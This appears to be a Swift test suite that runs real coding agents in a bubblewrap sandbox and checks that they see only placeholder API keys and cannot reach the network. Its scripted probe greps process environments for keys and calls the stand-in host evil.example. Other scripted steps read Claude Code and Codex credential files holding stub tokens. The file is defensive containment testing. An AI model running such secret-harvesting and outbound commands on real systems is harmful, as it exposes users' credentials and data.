import Foundation
import Model
import TestSupport
import Testing

/// Real agents in a sandbox, which have no network but a door to their model.
@Suite(.serialized, .realAgents) struct SandboxedAgentTests {
    /// Prints what of keys can be seen, and tries to get out by all ways.
    private static func probe(_ stub: String) -> String {
        """
        cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a _KEY= | sort -u
        python3 - <<'END'
        import socket, urllib.request, urllib.error
        for url in ("http://evil.example/x?y=z", "https://evil.example/"):
            try:
                print("reached", urllib.request.urlopen(url, timeout=300).status)
            except urllib.error.HTTPError as error:
                print("answer", error.code, error.read().decode())
            except Exception as error:
                print("error", error)
        for place in ("\(stub)", "192.0.2.1:80", "127.0.0.1:22"):
            host, port = place.rsplit("/", 1)[-1].split(":")
            try:
                socket.create_connection((host, int(port)), 3)
                print("connected", place)
            except OSError as error:
                print("direct", error)
        END
        """
    }

    /// What an agent's tool printed, as its model was told.
    private func seen(_ bench: AgentBench) throws -> String {
        let bodies = try bench.turns().dropFirst().compactMap { $0["body"]?.line }
        try #require(!bodies.isEmpty)
        return bodies.joined()
    }

    @Test(arguments: SurroundingsTests.agents)
    func `an agent works with a placeholder for its key, and reaches nobody else`(
        agent: RealAgent
    ) throws {
        let sandbox = try Sandbox(repository: false)
        let first = try StubModel([.says("x")], key: "none", in: sandbox)
        let address = first.url
        first.stop()
        let bench = try AgentBench(
            agent,
            [
                .calls(agent.shell(Self.probe(address))), .calls(agent.write("f", "good\n")),
                .calls(agent.shell("./check && git add f && git commit -q -m 'Write f'")),
                .says("f holds good."),
            ])
        try bench.sandbox.git("config", "draft.sandbox", "bwrap")
        let ticket = try bench.ticket()
        try bench.draft("run \(ticket)")
        let seen = try seen(bench)
        #expect(seen.contains("_KEY=sk-draft-"), "\(seen)")
        #expect(!seen.contains(AgentBench.key))
        #expect(seen.contains("answer 403 git-draft: the job may not talk to 'evil.example'"))
        #expect(seen.contains("error <urlopen error Tunnel connection failed: 403"))
        #expect(seen.contains("direct [Errno"))
        for words in ["connected http", "connected 1", "reached 2"] {
            #expect(!seen.contains(words), "\(words)")
        }
        // The model has got the key itself, each time.
        let turns = try bench.turns()
        #expect(turns.count >= 4 && turns.allSatisfy { $0["key"] == [true] })
        try checkEvidence(bench, ticket)
        try bench.expect(ticket, "needs_human, job succeeded", "works in bubblewrap by a door")
    }

    private func checkEvidence(_ bench: AgentBench, _ ticket: String) throws {
        #expect(try bench.job(ticket)["sandbox"] == "bwrap")
        let log = try bench.draft("logs \(ticket)").stdout
        #expect(log.contains("network: refused evil.example:443"), "\(log)")
        #expect(log.contains("network: refused evil.example:80"))
        #expect(log.contains("network: allowed 127.0.0.1:"))
        let names = try bench.sandbox.run(
            "git for-each-ref --format='%(refname)' refs/draft/evidence | "
                + "xargs -n 1 git ls-tree -r --name-only"
        ).stdout
        #expect(names.contains("-network.jsonl"), "\(names)")
        let everything = try bench.sandbox.run(
            """
            git cat-file --batch-all-objects --batch-check='%(objecttype) %(objectname)' |
            grep '^blob' | while read -r type id; do
                git cat-file blob "$id" | grep -aF -e '\(AgentBench.key)' -e 'y=z' >/dev/null &&
                    git cat-file blob "$id" | grep -a '"verdict"'
            done; grep -rlaF -e '\(AgentBench.key)' .git
            """)
        #expect(everything.stdout == "", "\(everything.stdout)")
    }

    // MARK: - Log-ins

    private static let access = "sk-ant-oat01-stub-\(String(repeating: "Zk3", count: 8))"

    @Test func `a log-in of Claude Code stays outside`() throws {
        let bench = try AgentBench(
            .claude,
            [
                .calls(RealAgent.claude.shell("cat ~/.claude/.credentials.json")),
                .calls(RealAgent.claude.write("f", "good\n")), .says("f holds good."),
            ], key: Self.access)
        try bench.sandbox.git("config", "draft.sandbox", "bwrap")
        let folder = bench.sandbox.root.appending(path: "home/.claude")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let logIn: JSON = [
            "claudeAiOauth": [
                "accessToken": .string(Self.access),
                "refreshToken": "sk-ant-ort01-stub-Yq8ZZ0pJt2W6v", "expiresAt": 4_102_444_800_000,
                "scopes": ["user:inference", "user:profile"], "subscriptionType": "max",
            ]
        ]
        try Data(logIn.line.utf8).write(to: folder.appending(path: ".credentials.json"))
        let ticket = try bench.ticket()
        try bench.draft("run \(ticket)", environment: ["ANTHROPIC_API_KEY": nil])
        let seen = try seen(bench)
        #expect(seen.contains("sk-ant-oat01-draft-") && seen.contains("sk-ant-ort01-draft-"))
        #expect(!seen.contains("stub-Zk3") && !seen.contains("Yq8ZZ0"))
        #expect(try bench.turns().allSatisfy { $0["key"] == [true] })
        try bench.expect(ticket, "needs_human, job succeeded", "a log-in stays outside")
    }

    @Test func `a log-in of Codex stays outside`() throws {
        func token(_ claims: String, _ signature: String) -> String {
            let parts = [#"{"alg":"none"}"#, claims].map {
                Data($0.utf8).base64EncodedString().replacing("=", with: "")
                    .replacing("+", with: "-").replacing("/", with: "_")
            }
            return (parts + [signature]).joined(separator: ".")
        }
        let claims =
            #"{"email":"a@b.example","exp":4102444800,"https://api.openai.com/auth":"#
            + #"{"chatgpt_account_id":"acc-1","chatgpt_plan_type":"pro"}}"#
        let access = token(claims, "c2lnbmF0dXJlLW9mLXRoZS1hY2Nlc3M")
        let bench = try AgentBench(
            .codex,
            [
                .calls(RealAgent.codex.shell("cat ~/.codex/auth.json")),
                .calls(RealAgent.codex.write("f", "good\n")), .says("f holds good."),
            ], key: access)
        try bench.sandbox.git("config", "draft.sandbox", "bwrap")
        let folder = bench.sandbox.root.appending(path: "home/.codex")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let logIn: JSON = [
            "auth_mode": "chatgpt", "OPENAI_API_KEY": nil,
            "tokens": [
                "id_token": .string(token(claims, "c2lnbmF0dXJlLW9mLXRoZS1pZGVudGl0eQ")),
                "access_token": .string(access), "refresh_token": "rt_stub_Yq8ZZ0pJt2W6v",
                "account_id": "acc-1",
            ], "last_refresh": .string(Timestamp(milliseconds: 4_000_000_000_000).description),
        ]
        try Data(logIn.line.utf8).write(to: folder.appending(path: "auth.json"))
        let ticket = try bench.ticket()
        try bench.draft("run \(ticket)", environment: ["OPENAI_API_KEY": nil])
        let seen = try seen(bench)
        #expect(seen.contains(".draft-") && !seen.contains("c2lnbmF0dXJl"))
        #expect(!seen.contains("Yq8ZZ0"))
        #expect(try bench.turns().allSatisfy { $0["key"] == [true] })
        try bench.expect(ticket, "needs_human, job succeeded", "a log-in stays outside")
    }
}
